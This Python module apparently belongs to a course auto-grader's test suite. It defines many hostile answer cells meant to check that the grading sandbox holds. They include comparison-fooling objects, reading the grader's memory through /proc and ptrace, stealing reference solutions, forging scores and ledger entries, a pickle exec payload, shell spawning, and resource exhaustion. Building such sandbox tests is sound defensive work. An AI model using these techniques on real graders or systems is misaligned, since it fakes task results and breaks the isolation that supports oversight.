"""The attacks: what stands in an answer cell, and what its author hopes for.

A source knows everything about the machine: $NAME is put in from `world.World.names`. It
may call `tried(action)`, which keeps what came of it in LOOT. A source without an answer
gets one that shows the loot in an error message; a wrong answer of zeros is the control.
"""

from dataclasses import dataclass, field
from inspect import getsource
from string import Template
from textwrap import dedent

from course.exercises.convolution import plain_loop
from tests.grading.attacks.world import World

PREAMBLE = """\
import os, sys
LOOT = []
def tried(action, *arguments):
    try:
        LOOT.append(repr(action(*arguments))[:100])
    except BaseException as error:
        LOOT.append(type(error).__name__)
"""
SHOW_LOOT = """
def toeplitz_same(w, n):
    raise ValueError(" ".join(sorted(LOOT, key=lambda s: "canary" not in s)))
"""
ZEROS = "def toeplitz_same(w, n):\n    return np.zeros((n, n))"

# the C library, errors raised
LIBC = """\
import ctypes
LIBRARY = ctypes.CDLL(None, use_errno=True)
def libc(name, *arguments):
    result = getattr(LIBRARY, name)(*arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), name)
    return result
"""
# what a cell needs to speak in place of the worker
FORGE = """\
import stat
from course.grading.wire import SIZES, encode
def pipes():
    for fd in range(256):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass
def asked():
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            if isinstance(value, dict) and "do" in value and "id" in value:
                return value
        frame = frame.f_back
def send(frame):
    for fd in pipes():
        try:
            os.write(fd, frame)
        except OSError:
            pass
def say(outcome, value):
    send(encode({"id": asked()["id"], "outcome": outcome, "value": value}))
"""


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes
    ----------
    name, family : of the attack
    tries : what it tries, in one sentence
    source : of the answer cell
    question : that the cell answers
    honest : the same answer without the attack
    works_unboxed : whether it gets something where there is no box; None: it is not let
        loose there, because it would hurt the machine
    seconds : for the question
    """

    name: str
    family: str
    tries: str
    source: str
    question: str = "toeplitz_same"
    honest: str = field(default=ZEROS, repr=False)
    works_unboxed: bool | None = False
    seconds: float = 20.0

    def cell(self, world: World) -> str:
        """Return the source of the cell."""
        names = {name: repr(value) for name, value in world.names().items()}
        source = dedent(self.source)
        if f"def {self.question}" not in source and f"{self.question} =" not in source:
            source += SHOW_LOOT
        return PREAMBLE + Template(source).safe_substitute(names)


ATTACKS: list[Attack] = []


def attack(name: str, tries: str, source: str, **others: object) -> None:
    """Add an attack to the table, in the family that was named last."""
    ATTACKS.append(Attack(name, FAMILY, tries, source, **others))


# --- the comparison ---------------------------------------------------------------------
FAMILY = "comparison"

attack(
    "numpy says yes",
    "Replace what NumPy compares with by functions that say yes.",
    """
    for name in ("isclose", "allclose", "array_equal", "equal"):
        setattr(np, name, lambda *_, **__: np.bool_(True))
    def toeplitz_same(w, n):
        return np.zeros((n, n))
    """,
)
attack(
    "builtins say yes",
    "Replace any, all, isinstance and len by functions that say yes.",
    """
    import builtins
    def toeplitz_same(w, n):
        builtins.any = builtins.all = lambda *_: True
        return np.zeros((n, n))
    """,
)
attack(
    "equal to everything",
    "Return an object that is equal to whatever it is compared with.",
    """
    class Yes:
        __eq__ = __le__ = __ge__ = __bool__ = lambda *_: True
        __array_function__ = __array_ufunc__ = lambda *_, **__: True
        __array__ = lambda self, *_, **__: np.zeros((3, 3))
        shape, dtype, ndim = (3, 3), np.dtype(float), 2
    def toeplitz_same(w, n):
        return Yes()
    """,
)
attack(
    "lying subclass of an array",
    "Return an array whose own class answers comparisons.",
    """
    class Liar(np.ndarray):
        def __array_ufunc__(self, *_, **__):
            return np.True_
        __eq__ = lambda *_: True
    def toeplitz_same(w, n):
        return np.zeros((n, n)).view(Liar)
    """,
)
attack(
    "objects in an array",
    "Return an array of objects that are equal to any number.",
    """
    class Yes(float):
        __eq__ = __sub__ = __rsub__ = lambda *_: True
        __abs__ = lambda _: 0.0
    def toeplitz_same(w, n):
        return np.full((n, n), Yes(0), dtype=object)
    """,
)
attack(
    "numbers with a lying repr",
    "Return floats and ints whose texts and values say something else.",
    """
    class Float(float):
        __repr__ = __str__ = lambda _: "nan"
    class Int(int):
        __int__ = __index__ = lambda _: 10**4000
    def toeplitz_same(w, n):
        return [[Float(0)] * (n - 1) + [Int(0)] for _ in range(n)]
    """,
)
attack(
    "not a number",
    "Return nan everywhere, in the hope that nothing is larger than it.",
    """
    def toeplitz_same(w, n):
        return np.full((n, n), np.nan)
    """,
)
attack(
    "infinity",
    "Return infinity, so that the tolerance becomes infinite.",
    """
    def toeplitz_same(w, n):
        return np.full((n, n), np.inf)
    """,
)
attack(
    "shape that broadcasts",
    "Return one number, which fits into every shape.",
    """
    def toeplitz_same(w, n):
        return np.zeros((1, 1)) if n % 2 else np.float64(0)
    """,
)
attack(
    "nothing to compare",
    "Return an empty array, of which all elements are right.",
    """
    def toeplitz_same(w, n):
        return np.zeros((0, n)) if n % 2 else []
    """,
)
attack(
    "input returned",
    "Return the argument itself.",
    """
    def toeplitz_same(w, n):
        return w
    """,
)
attack(
    "arguments overwritten",
    "Set the arguments to zero, for which zeros are right, and hide the change.",
    """
    import course.exercises.call as module
    module.unchanged = lambda *_: True
    def toeplitz_same(w, n):
        w[:] = 0
        return np.zeros((n, n))
    """,
)
attack(
    "array that changes later",
    "Return an array that a thread goes on changing while it is compared.",
    """
    import threading
    y = np.zeros((9, 9))
    def change():
        while True:
            y[:] = np.random.normal(size=y.shape)
    threading.Thread(target=change, daemon=True).start()
    def toeplitz_same(w, n):
        return y[:n, :n]
    """,
)
attack(
    "strange numbers",
    "Return complex numbers, long doubles, and the bytes of the other end.",
    """
    def toeplitz_same(w, n):
        kind = ("c16", "f2", np.longdouble, ">f8", "?", "u1")[n % 6]
        return np.zeros((n, n)).astype(kind)
    """,
)
attack(
    "masked array",
    "Return an array of which every element is masked.",
    """
    def toeplitz_same(w, n):
        return np.ma.masked_all((n, n))
    """,
)
attack(
    "list that changes while it is read",
    "Return a list that shows other elements each time it is walked.",
    """
    class Moving(list):
        def __iter__(self):
            return iter(np.random.normal(size=(len(self), len(self))))
    def toeplitz_same(w, n):
        return Moving([[0.0] * n] * n)
    """,
)

# --- the tests --------------------------------------------------------------------------
FAMILY = "test theft"

attack(
    "frames",
    "Walk up the stack and look for what is expected.",
    """
    def toeplitz_same(w, n):
        frame = sys._getframe()
        while frame:
            for name, value in [*frame.f_locals.items(), *frame.f_globals.items()]:
                try:
                    return getattr(value, "oracle", value if "oracle" in name else 0)(w, n)
                except Exception:
                    pass
            frame = frame.f_back
        return np.zeros((n, n))
    """,
)
attack(
    "garbage collector",
    "Look through all objects of the process for a question.",
    """
    import gc
    def toeplitz_same(w, n):
        for value in gc.get_objects():
            try:
                if type(value).__name__ == "Question" and value.name == "toeplitz_same":
                    return value.oracle(w, n)
            except Exception:
                pass
        return np.zeros((n, n))
    """,
)
attack(
    "modules that are loaded",
    "Look through sys.modules and the lines that Python remembers for the oracle.",
    """
    import linecache
    def toeplitz_same(w, n):
        for module in list(sys.modules.values()):
            try:
                return module.banded(w, n)
            except Exception:
                pass
        for lines in linecache.cache.values():
            if "def " + "banded" in str(lines):
                LOOT.append($DOOR)
        return np.zeros((n, n)) if not LOOT else LOOT
    """,
)
attack(
    "notebooks on the disk",
    "Look for notebooks and for the grader's files, from here up to the root.",
    """
    from pathlib import Path
    for place in (Path.cwd(), *Path.cwd().parents, Path($FOLDER), Path($ROOT)):
        tried(lambda: [p.read_text()[:200] for p in place.glob("*/*.ipynb")])
        tried(lambda: [$DOOR for p in place.glob("**/convolution.py")])
    """,
    works_unboxed=True,
)
attack(
    "command line of the grader",
    "Read how the grader was started, and its environment.",
    """
    for pid in (os.getppid(), $PID, 1, "self"):
        tried(lambda: open(f"/proc/{pid}/environ").read().split("COURSE_TEACHER_")[1])
        tried(lambda: pid != "self" and os.listdir(f"/proc/{pid}/cwd") and $DOOR)
    """,
    works_unboxed=True,
)
attack(
    "memory of the grader, as a file",
    "Read the secret from the memory of the trusted process through /proc.",
    """
    def read(pid):
        with open(f"/proc/{pid}/mem", "rb", 0) as file:
            file.seek($ADDRESS)
            return file.read($LENGTH)
    for pid in (os.getppid(), $PID, "self"):
        tried(read, pid)
    """,
    works_unboxed=True,
)
attack(
    "memory of the grader, by a call",
    "Read the secret from the memory of the trusted process with process_vm_readv.",
    LIBC
    + """
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
def read(pid):
    mine = ctypes.create_string_buffer($LENGTH)
    here, there = Vector(ctypes.addressof(mine), $LENGTH), Vector($ADDRESS, $LENGTH)
    libc("process_vm_readv", pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    return mine.raw
for pid in (os.getppid(), $PID):
    tried(read, pid)
""",
    works_unboxed=True,
)
attack(
    "debugger",
    "Attach to the trusted process with ptrace.",
    LIBC
    + """
for pid in {os.getppid(), $PID} - {0}:
    tried(lambda: libc("ptrace", 0x4206, pid, 0, 0) == 0 and $DOOR)  # SEIZE
    tried(lambda: libc("ptrace", 17, pid, 0, 0))  # DETACH
""",
    works_unboxed=None,
)
attack(
    "open files",
    "Read from every open file, and steal those of the trusted process.",
    LIBC
    + """
for fd in range(5, 100):
    tried(lambda: "sock" in os.readlink(f"/proc/self/fd/{fd}") and $DOOR)
def steal(number):
    pid = libc("syscall", 434, $PID, 0)
    return libc("syscall", 438, pid, number, 0) and $DOOR
for number in range(3, 20):
    tried(steal, number)
for number in range(3, 40):
    tried(lambda: open(f"/proc/{$PID}/fd/{number}", "rb", 0) and $DOOR)
LOOT[:] = sorted(set(LOOT))
""",
    works_unboxed=True,
)
attack(
    "history of the notebook",
    "Ask IPython for the cells and the answers that it remembers.",
    """
    tried(lambda: get_ipython().user_ns)
    tried(lambda: In)
    tried(lambda: __import__("IPython").get_ipython().history_manager and $DOOR)
    """,
)
attack(
    "other boxes",
    "Look for the folders of other boxes among the temporary files.",
    """
    import glob
    for place in {"/tmp", "/var/tmp", "/dev/shm", os.path.dirname(os.getcwd())} - {"/"}:
        tried(lambda: [$DOOR for p in glob.glob(place + "/*") if p != os.getcwd()][0])
    """,
    works_unboxed=True,
)
attack(
    "generator of the cases",
    "Make NumPy's generators give the same numbers in every grading.",
    """
    fixed = np.random.default_rng(0)
    np.random.default_rng = lambda *_: fixed
    np.random.seed(0)
    table = {}
    def toeplitz_same(w, n):
        return np.zeros((n, n))
    """,
)

FAMILY = "speed"
FAST = "corr2d_fast"
SLOW_LOOP = "\n" + getsource(plain_loop).replace("plain_loop", FAST)
attack(
    "public numbers",
    "Compute the answers for the numbers that `check` measures with while the cell runs.",
    SLOW_LOOP
    + """
slow, known = corr2d_fast, {}
rng = np.random.default_rng(list(b"corr2d_fast"))
for _ in range(2):
    x, w = rng.normal(size=(120, 160)), rng.normal(size=(5, 5))
    known[x[0, 0]] = slow(x, w)
def corr2d_fast(x, w):
    return known[x[0, 0]] if x[0, 0] in known else slow(x, w)
""",
    question=FAST,
    honest=SLOW_LOOP,
)
attack(
    "computed while it is sent",
    "Return at once a list that is only computed when it is sent.",
    SLOW_LOOP
    + """
slow = corr2d_fast
class Later(list):
    def __iter__(self):
        return iter(slow(*self.arguments))
def corr2d_fast(x, w):
    later = Later([0])
    later.arguments = x, w
    return later
""",
    question=FAST,
    honest=SLOW_LOOP,
)
attack(
    "started early",
    "Let a thread watch for the arguments and compute before the clock runs.",
    SLOW_LOOP
    + """
import threading, time
slow, known = corr2d_fast, {}
def watch():
    while True:
        time.sleep(0.001)
        for frame in list(sys._current_frames().values()):
            while frame:
                for value in list(frame.f_locals.values()):
                    if isinstance(value, tuple) and len(value) == 2:
                        x, w = value
                        if isinstance(x, np.ndarray) and x.shape == (120, 160):
                            key = x[0, 0]
                            if key not in known:
                                known[key] = slow(x, w)
                frame = frame.f_back
threading.Thread(target=watch, daemon=True).start()
def corr2d_fast(x, w):
    return known[x[0, 0]] if x[0, 0] in known else slow(x, w)
""",
    question=FAST,
    honest=SLOW_LOOP,
)
attack(
    "a slower ruler",
    "Keep the machine busy while the plain loop is measured, and rest when called.",
    SLOW_LOOP
    + """
import hashlib, threading
busy, slow = True, corr2d_fast
def work():
    while True:
        if busy:
            hashlib.sha256(bytes(1 << 24)).digest()
for _ in range(4):
    threading.Thread(target=work, daemon=True).start()
def corr2d_fast(x, w):
    global busy
    busy = x.size < 1000
    return slow(x, w)
""",
    question=FAST,
    honest=SLOW_LOOP,
)

# --- the reference ----------------------------------------------------------------------
FAMILY = "reference theft"

attack(
    "oracle by its name",
    "Import the question and call its oracle.",
    """
    from course.exercises.spec import find
    def toeplitz_same(w, n):
        return find("toeplitz_same")[1].oracle(w, n)
    """,
)
attack(
    "oracle by its module",
    "Import the module with the right answers after undoing what hides it.",
    """
    import importlib
    import course, course.exercises
    course.__path__ = [$ROOT + "/course"]
    course.exercises.__path__ = [$ROOT + "/course/exercises"]
    for name in list(sys.modules):
        if name.startswith("course."):
            del sys.modules[name]
    importlib.invalidate_caches()
    sys.path[:0] = [$ROOT, $SITE]
    module = importlib.import_module("course.exercises.convolution")
    def toeplitz_same(w, n):
        return module.banded(w, n)
    """,
    works_unboxed=True,
)
attack(
    "oracle by its file",
    "Load the file of the right answers under another name.",
    """
    from importlib.util import module_from_spec, spec_from_file_location
    def toeplitz_same(w, n):
        spec = spec_from_file_location("mine", $ROOT + "/course/exercises/convolution.py")
        module = module_from_spec(spec)
        spec.loader.exec_module(module)
        return module.banded(w, n)
    """,
)
attack(
    "oracle cut out of its file",
    "Read the source of the right answers and run the one function.",
    """
    def toeplitz_same(w, n):
        text = open($ROOT + "/course/exercises/convolution.py").read()
        text = text[text.index("def banded"):]
        exec(text[:text.index("\\ndef ", 5)], globals())
        return banded(w, n)
    """,
    works_unboxed=True,
)
attack(
    "solution",
    "Read the solution's notebook and run its cell.",
    """
    import json
    def toeplitz_same(w, n):
        for cell in json.load(open($SOLUTION))["cells"]:
            if cell["id"] == "answer-toeplitz_same":
                space = {"np": np}
                exec("".join(cell["source"]), space)
                return space["toeplitz_same"](w, n)
    """,
    works_unboxed=True,
)
attack(
    "compiled files",
    "Take the oracle from the compiled files that Python keeps beside the sources.",
    """
    import glob, marshal
    for path in glob.glob($ROOT + "/course/**/*.pyc", recursive=True):
        tried(lambda: marshal.loads(open(path, "rb").read()[16:]) and $DOOR)
    LOOT[:] = sorted(set(LOOT))
    """,
    works_unboxed=True,
)
attack(
    "history of the repository",
    "Read the objects of git.",
    """
    tried(lambda: os.listdir($ROOT + "/.git/objects") and $DOOR)
    tried(lambda: __import__("subprocess").check_output(["git", "-C", $ROOT, "show"]))
    """,
    works_unboxed=True,
)
attack(
    "cache of machine code",
    "Find the machine code of the course's layers, whose index holds pickles.",
    """
    import glob
    for place in (os.environ.get("COURSE_CACHE", $CACHE), $CACHE, os.getcwd()):
        tried(lambda: [$DOOR for _ in glob.glob(place + "/**/*.nb[ic]", recursive=True)])
    """,
    works_unboxed=True,
)
attack(
    "other libraries of the teacher",
    "Put the teacher's packages on the path and import what is not needed here.",
    """
    sys.path.append($SITE)
    for name in ("scipy.signal", "tqdm", "nbformat", "pytest"):
        tried(lambda: __import__(name) and open(sys.modules[name].__file__) and $DOOR)
    """,
    works_unboxed=True,
)
CORR2D = "corr2d"
attack(
    "layer of the course",
    "Answer corr2d with the course's own convolution, which the set-up cell imports.",
    """
    def corr2d(x, w, stride=1):
        x, w = np.asarray(x, float), np.asarray(w, float)
        return conv2d_forward(x[None, None], w[None, None], stride=stride)[0, 0]
    """,
    question=CORR2D,
    honest="def corr2d(x, w, stride=1):\n    return np.zeros((1, 1))",
)
attack(
    "layer behind the placeholder",
    "Throw away the placeholders and import the course's convolution afresh.",
    """
    sys.meta_path[:] = [f for f in sys.meta_path if "course" not in repr(f)]
    for name in list(sys.modules):
        if name.startswith("course"):
            del sys.modules[name]
    sys.path[:0] = [$ROOT, $SITE]
    from course.layers import conv2d_forward
    def corr2d(x, w, stride=1):
        x, w = np.asarray(x, float), np.asarray(w, float)
        return conv2d_forward(x[None, None], w[None, None], stride=stride)[0, 0]
    """,
    question=CORR2D,
    honest="def corr2d(x, w, stride=1):\n    return np.zeros((1, 1))",
    works_unboxed=True,
)
attack(
    "stand-in of check",
    "Let `check` return the course's own function for an unwritten one.",
    """
    from course import check
    def toeplitz_same(w, n):
        raise NotImplementedError("your code here")
    toeplitz_same = check(toeplitz_same)
    """,
)
attack(
    "stand-in of the real check",
    "Load the real `check` from its file and take the function that it goes on with.",
    """
    sys.path[:0] = [$ROOT, $SITE]
    for name in list(sys.modules):
        if name.startswith("course"):
            del sys.modules[name]
    def toeplitz_same(w, n):
        raise NotImplementedError("your code here")
    from course.exercises.check import check
    toeplitz_same = check(toeplitz_same)
    """,
    works_unboxed=True,
    seconds=60,
)

# --- the result -------------------------------------------------------------------------
FAMILY = "forging"

attack(
    "result files",
    "Write full marks wherever a grader could look for them.",
    """
    for name in ("results.json", "submission.json", "junit.xml", "grades.csv"):
        for place in ($FOLDER + "/out", "/tmp"):
            tried(lambda: open(f"{place}/{$MARK}{name}", "x").write('{"score": 100}'))
    tried(lambda: open($RESULT, "w").write('{"points": 3}'))
    """,
    works_unboxed=True,
)
attack(
    "printed result",
    "Print a result, in the words of several services, to every open pipe.",
    """
    text = "\\n::set-output name=points::100\\n::notice::passed\\n{\\"score\\": 100}\\n"
    print(text)
    print(text, file=sys.__stderr__)
    for fd in (1, 2):
        tried(os.write, fd, text.encode())
    for name in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_STEP_SUMMARY"):
        tried(lambda: open(os.environ[name], "a").write(text) and $DOOR)
    """,
)
attack(
    "exit code",
    "End with the exit code that means success.",
    """
    import atexit
    atexit.register(lambda: open($RESULT, "w").write('{"points": 3}'))
    def toeplitz_same(w, n):
        sys.exit(0)
    """,
)
attack(
    "at the end of the process",
    "Write the ledger when the process ends, from __del__ and from a signal handler.",
    """
    import signal
    class Last:
        def __del__(self, open=open):
            open($LEDGER, "a").write("mallory,3\\n")
    keep = Last()
    signal.signal(signal.SIGTERM, lambda *_: keep.__del__())
    def toeplitz_same(w, n):
        os._exit(0)
    """,
)
attack(
    "early reply",
    "Answer for the worker, with an outcome that no worker sends.",
    FORGE
    + """
def toeplitz_same(w, n):
    for outcome in ("passed", "ready", "right", True):
        say(outcome, None)
    os._exit(0)
""",
)
attack(
    "change of no argument",
    "Answer for the worker that it changed an argument which does not exist.",
    FORGE
    + """
def toeplitz_same(w, n):
    say("changed", 99)
    os._exit(0)
""",
)
attack(
    "error of no text",
    "Answer for the worker with errors made of the wrong things.",
    FORGE
    + """
def toeplitz_same(w, n):
    say("raised", ["E" * 1000, "<script>" * 100000, 10**9, "\\x00" * 100000])
    os._exit(0)
""",
)
attack(
    "first reply of many",
    "Answer for the worker, many times, so that later questions find an answer waiting.",
    FORGE
    + """
def toeplitz_same(w, n):
    for _ in range(50):
        say("returned", [[0.0] * n] * n)
    return np.zeros((n, n))
""",
)
attack(
    "late reply",
    "Let a thread answer later questions with what it learnt from this one.",
    FORGE
    + """
import threading, time
frame = encode({"id": "", "outcome": "ready", "value": None})
def later():
    while True:
        time.sleep(0.01)
        send(frame)
def toeplitz_same(w, n):
    threading.Thread(target=later, daemon=True).start()
    time.sleep(0.1)
    return np.zeros((n, n))
""",
)
attack(
    "death of the next",
    "Let a thread end the process when the next question's cell comes.",
    """
    import linecache, threading, time
    def watch():
        while not any("filter_bank" in str(line) for line in linecache.cache):
            time.sleep(0.0005)
        os._exit(0)
    threading.Thread(target=watch, daemon=True).start()
    def toeplitz_same(w, n):
        return np.zeros((n, n))
    """,
)
attack(
    "lie for the next",
    "Stay in the process and answer the next question wrongly, or with an error.",
    """
    import course.grading.worker as worker
    def wrong(*_):
        raise ValueError("not me")
    old = worker.load
    def toeplitz_same(w, n):
        worker.load = lambda name, *rest: (wrong, None)
        return np.zeros((n, n))
    """,
)
attack(
    "half a reply",
    "Begin a reply and never end it.",
    FORGE
    + """
def toeplitz_same(w, n):
    send(SIZES.pack(100, 0) + b'["d"')
    while True:
        pass
""",
    seconds=2,
)
attack(
    "reply drop by drop",
    "Send a byte every tenth of a second, so that something always comes.",
    FORGE
    + """
import time
def toeplitz_same(w, n):
    send(SIZES.pack(1000000, 0))
    while True:
        send(b"[")
        time.sleep(0.1)
""",
    seconds=2,
)
attack(
    "flood of replies",
    "Write into the pipe without end.",
    FORGE
    + """
def toeplitz_same(w, n):
    while True:
        send(bytes(1 << 20))
""",
    seconds=2,
)
attack(
    "promise of much",
    "Announce a reply of four gigabytes.",
    FORGE
    + """
def toeplitz_same(w, n):
    send(b"\\xff" * 8)
    while True:
        send(b"[" * 65536)
""",
    seconds=2,
)
attack(
    "pickle",
    "Send a pickle that writes into the ledger when it is read.",
    FORGE
    + """
import pickle
class Bomb:
    def __reduce__(self):
        return exec, (f"open({$LEDGER!r}, 'a').write('mallory,3')",)
def toeplitz_same(w, n):
    data = pickle.dumps(Bomb())
    send(SIZES.pack(len(data), 0) + data)
    os._exit(0)
""",
)
HOSTILE = {
    "nesting": "b'[' * 200000",
    "deep lists": "b'[\"l\",[' * 5000 + b']]' * 5000",
    "long numbers": "b'[\"v\",' + b'9' * 100000 + b']'",
    "many fields": "b'[\"a\",\"' + b'f8,' * 10000 + b'f8\",[0],\"C\"]'",
    "impossible shape": 'b\'["a","<f8",[0,549755813888,549755813888],"A"]\'',
    "half a character": 'b\'["v","\\\\ud800"]\'',
    "same keys": 'b\'["d",[\' + b\'["id",["v",1]],\' * 50000 + b\'["id",["v",1]]]]\'',
    "no text": "bytes(range(256)) * 100",
    "many arrays": 'b\'["l",[\' + b\'["a","<f8",[0],"C"],\' * 9999 + b\'["v",1]]]\'',
}
for kind, head in HOSTILE.items():
    attack(
        f"hostile reply: {kind}",
        f"Reply with a head that is hard to read: {kind}.",
        FORGE
        + f"""
def toeplitz_same(w, n):
    head = {head}
    start = encode({{"id": asked()["id"], "outcome": "returned", "value": 5}})[8:]
    head = start.replace(b'["v", 5]', head)
    send(SIZES.pack(len(head), 0) + head)
    os._exit(0)
""",
    )
attack(
    "long texts in a list",
    "Return a list of texts that becomes gigabytes when it is made an array.",
    """
    def toeplitz_same(w, n):
        return ["x" * 30_000] + [""] * 3_000
    """,
    seconds=5,
)
attack(
    "large answers",
    "Return as much as a message may hold, every time, so that the grader keeps it all.",
    """
    def toeplitz_same(w, n):
        return np.zeros(7_000_000)
    """,
)
attack(
    "endless list",
    "Return a list that has no end when it is sent.",
    """
    class Endless(list):
        def __iter__(self):
            while True:
                yield 0.0
    def toeplitz_same(w, n):
        return Endless([0])
    """,
    seconds=2,
)
attack(
    "closed pipes",
    "Close every open file and go on.",
    """
    def toeplitz_same(w, n):
        os.closerange(0, 256)
        return np.zeros((n, n))
    """,
    seconds=5,
)

# --- the engine -------------------------------------------------------------------------
FAMILY = "engine"

attack(
    "worker rewritten",
    "Replace the worker's functions, so that every later answer is another one.",
    """
    import course.grading.worker as worker, course.exercises.call as module
    def toeplitz_same(w, n):
        return np.zeros((n, n))
    worker.call = module.call = lambda *_: ("passed", 1.0)
    """,
)
attack(
    "magic",
    "Write files and run programs with the magics of a notebook.",
    """
    %%bash
    !touch /tmp/$MARK
    %writefile /tmp/$MARK
    get_ipython().system("touch /tmp/" + $MARK)
    """,
)
attack(
    "shell",
    "Start programs.",
    """
    import subprocess
    tried(lambda: os.system("echo") == 0 and $DOOR)
    tried(lambda: subprocess.run([sys.executable, "-c", "print(1)"], check=True) and $DOOR)
    tried(lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "true"], {}) and $DOOR)
    tried(lambda: subprocess.run(["sudo", "-n", "true"], check=True) and $DOOR)
    """,
    works_unboxed=True,
)
attack(
    "shadow modules",
    "Leave modules of well-known names where the next process may import them.",
    """
    for place in sys.path:
        for name in ("numpy.py", "sitecustomize.py", "conftest.py", "course.pth"):
            tried(lambda: open(f"{place}/{$MARK}{name}", "x").write("#") and $DOOR)
    LOOT[:] = sorted(set(LOOT))
    """,
    works_unboxed=True,
)
attack(
    "course rewritten",
    "Write into the files of the course that the box itself uses.",
    """
    import course, numpy
    for module in list(sys.modules.values()):
        path = getattr(module, "__file__", None) or ""
        if path.endswith(".py") and ("course" in path or "numpy/__init__" in path):
            tried(lambda: open(path, "r+") and $DOOR)
            tried(lambda: os.chmod(path, os.stat(path).st_mode) is None and $DOOR)
    LOOT[:] = sorted(set(LOOT))
    """,
    works_unboxed=None,
)
attack(
    "hooks",
    "Set every hook that Python has, and replace compile and exec.",
    """
    import builtins, threading
    def hook(*_):
        return hook
    sys.settrace(hook); sys.setprofile(hook); threading.settrace(hook)
    sys.excepthook = sys.displayhook = sys.unraisablehook = sys.breakpointhook = hook
    sys.addaudithook(hook)
    old = builtins.compile
    builtins.compile = lambda source, *rest: old("toeplitz_same = None", *rest)
    def toeplitz_same(w, n):
        return np.zeros((n, n))
    """,
)
attack(
    "handler of all errors",
    "Catch what ends a call, with a handler for every signal and an endless except.",
    """
    import signal, time
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        tried(signal.signal, number, lambda *_: None)
    def toeplitz_same(w, n):
        while True:
            try:
                time.sleep(1)
            except BaseException:
                pass
    """,
    seconds=2,
)
attack(
    "error that runs on",
    "Raise an error whose text takes for ever to make.",
    """
    class Slow(Exception):
        def __str__(self):
            while True:
                pass
    def toeplitz_same(w, n):
        raise Slow
    """,
    seconds=2,
)

# --- resources --------------------------------------------------------------------------
FAMILY = "resources"

attack(
    "loop",
    "Never end, whatever is raised.",
    """
    def toeplitz_same(w, n):
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
    """,
    seconds=2,
)
attack(
    "loop in C",
    "Never come back from a call of C, which no exception ends.",
    """
    def toeplitz_same(w, n):
        return sum(iter(int, 1))
    """,
    seconds=2,
)
attack(
    "loop at the end",
    "Never end when the process should.",
    """
    import atexit, threading
    class Loop:
        def __del__(self):
            while True:
                pass
    keep = Loop()
    atexit.register(keep.__del__)
    threading.Thread(target=keep.__del__).start()
    def toeplitz_same(w, n):
        sys.exit()
    """,
    seconds=2,
)
attack(
    "loop without the lock",
    "Never end in machine code that does not hold Python's lock.",
    """
    @njit(nogil=True)
    def toeplitz_same(w, n):
        k = 0.0
        while k >= 0:
            k += 1.0
        return k
    """,
    seconds=4,
)
attack(
    "stopped",
    "Stop the own process, so that it neither works nor ends.",
    """
    import signal
    def toeplitz_same(w, n):
        os.kill(os.getpid(), signal.SIGSTOP)
        while True:
            pass
    """,
    seconds=2,
)
attack(
    "memory",
    "Take eight gigabytes, piece by piece.",
    """
    kept = []
    def toeplitz_same(w, n):
        while len(kept) < 64:
            kept.append(np.ones(1 << 24))
        return $DOOR
    """,
    seconds=10,
)
attack(
    "memory in files",
    "Fill the memory through files that live in it.",
    """
    import mmap
    def fill():
        for _ in range(64):
            if os.write(os.memfd_create("m"), bytes(1 << 25)) < (1 << 25):
                raise OSError
        return $DOOR
    tried(fill)
    def share():
        kept = [mmap.mmap(-1, 1 << 26) for _ in range(64)]
        for block in kept:
            block[::4096] = bytes(1 << 14)
        return $DOOR
    tried(share)
    """,
    works_unboxed=True,
    seconds=30,
)
attack(
    "disk",
    "Write a quarter of a gigabyte somewhere.",
    """
    for place in {os.getcwd(), os.environ["TMPDIR"], "/tmp", "/var/tmp", "/dev/shm"}:
        def fill():
            for k in range(16):
                path = f"{place}/{$MARK}{k}"
                with open(path, "wb") as file:
                    file.write(bytes(1 << 24))
            return $DOOR
        tried(fill)
    """,
    works_unboxed=True,
)
attack(
    "many files",
    "Make twenty thousand files.",
    """
    for place in {os.getcwd(), os.environ["TMPDIR"], "/dev/shm"}:
        def fill():
            os.mkdir(f"{place}/{$MARK}")
            for k in range(20_000):
                open(f"{place}/{$MARK}/{k}", "x").close()
            return $DOOR
        tried(fill)
    """,
    works_unboxed=True,
)
attack(
    "processes",
    "Start thirty processes.",
    """
    import time
    def fork():
        for _ in range(30):
            if os.fork() == 0:
                time.sleep(5)
                os._exit(0)
        return $DOOR
    tried(fork)
    """,
    works_unboxed=True,
)
attack(
    "threads",
    "Start two thousand threads.",
    """
    import threading
    def start():
        event = threading.Event()
        threading.stack_size(1 << 15)
        try:
            for _ in range(2000):
                threading.Thread(target=event.wait, daemon=True).start()
        finally:
            event.set()
        return $DOOR
    tried(start)
    """,
    works_unboxed=True,
)
attack(
    "open files without end",
    "Open files until there are none left.",
    """
    kept = []
    def open_all():
        while len(kept) < 100_000:
            kept.append(os.dup(0))
        return $DOOR
    tried(open_all)
    """,
)
attack(
    "output without end",
    "Print two hundred megabytes.",
    """
    for _ in range(200):
        print("x" * 500_000)
        os.write(1, bytes(500_000))
        os.write(2, bytes(500_000))
    """,
)
attack(
    "recursion",
    "Recurse in C until the stack is gone.",
    """
    sys.setrecursionlimit(10**9)
    class Deep:
        def __repr__(self):
            return repr(self)
    def toeplitz_same(w, n):
        return repr(Deep())
    """,
)
attack(
    "hard to compile",
    "Let numba translate a function of many thousand lines.",
    """
    lines = "".join(f"    y += w[{k % 3}] * y\\n" for k in range(20000))
    exec("def big(w, n):\\n    y = 1.0\\n" + lines + "    return y")
    toeplitz_same = njit(big)
    toeplitz_same.__name__ = "toeplitz_same"
    """,
    seconds=3,
)
attack(
    "long error",
    "Raise an error with a text of ten megabytes.",
    """
    def toeplitz_same(w, n):
        raise ValueError("x " * 5_000_000)
    """,
)
attack(
    "bad pointer",
    "Write where no memory is.",
    """
    import ctypes
    def toeplitz_same(w, n):
        ctypes.memset(8, 1, 8)
    """,
)
attack(
    "core file",
    "Let the process leave its memory in a file.",
    """
    import resource
    tried(resource.setrlimit, resource.RLIMIT_CORE, (-1, -1))
    def toeplitz_same(w, n):
        os.abort()
    """,
)
attack(
    "larger limits",
